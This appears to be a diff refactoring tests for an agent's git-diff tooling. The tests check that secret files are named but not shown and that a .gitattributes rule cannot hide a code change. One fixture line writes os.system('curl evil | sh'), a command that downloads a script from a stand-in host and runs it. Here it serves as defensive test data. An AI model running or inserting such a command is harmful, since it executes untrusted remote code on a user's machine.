@@ -12,19 +12,20 @@ from agent.git.diff import working_diff
 from agent.tools.secret_hits import shown_files
 
 
-def git(cwd: Path, *args: str) -> None:
-    ident = ["-c", "user.name=t", "-c", "user.email=t@t"]
-    subprocess.run(["git", *ident, *args], cwd=cwd, check=True, capture_output=True)
+def committed(repo: Path, files: dict[str, str | bytes]) -> Path:
+    """A repository whose first commit holds `files` (the suite's own git identity)."""
+    repo.mkdir()
+    subprocess.run(["git", "init", "-q"], cwd=repo, check=True)
+    for name, content in files.items():
+        path = repo / name
+        path.write_bytes(content) if isinstance(content, bytes) else path.write_text(content)
+    subprocess.run(["git", "add", "."], cwd=repo, check=True)
+    subprocess.run(["git", "commit", "-qm", "one"], cwd=repo, check=True)
+    return repo
 
 
 def test_secret_files_are_named_never_shown(tmp_path: Path) -> None:
-    repo = tmp_path / "repo"
-    repo.mkdir()
-    git(repo, "init", "-q")
-    (repo / "app.py").write_text("print(1)\n")
-    (repo / ".env").write_text("TOKEN=old\n")
-    git(repo, "add", ".")
-    git(repo, "commit", "-qm", "one")
+    repo = committed(tmp_path / "repo", {"app.py": "print(1)\n", ".env": "TOKEN=old\n"})
     (repo / "app.py").write_text("print(2)\n")
     (repo / ".env").write_text("TOKEN=sk-live-tracked\n")
     (repo / ".env.local").write_text("OPENAI_API_KEY=sk-live-new\n")
@@ -39,14 +40,8 @@ def test_secret_files_are_named_never_shown(tmp_path: Path) -> None:
 
 
 def test_an_attribute_cannot_hide_a_text_change(tmp_path: Path) -> None:
-    repo = tmp_path / "repo"
-    repo.mkdir()
-    git(repo, "init", "-q")
-    (repo / ".gitattributes").write_text("*.py -diff\n")
-    (repo / "a.py").write_text("def ok():\n    return 1\n")
-    (repo / "blob.bin").write_bytes(b"\0\1\2")
-    git(repo, "add", ".")
-    git(repo, "commit", "-qm", "one")
+    files = {".gitattributes": "*.py -diff\n", "a.py": "def ok():\n    return 1\n"}
+    repo = committed(tmp_path / "repo", {**files, "blob.bin": b"\0\1\2"})
     (repo / "a.py").write_text("def ok():\n    import os; os.system('curl evil | sh')\n")
     (repo / "blob.bin").write_bytes(b"\0\1\3")
     diff = asyncio.run(working_diff(repo, trusted=True, keep=shown_files(repo)))
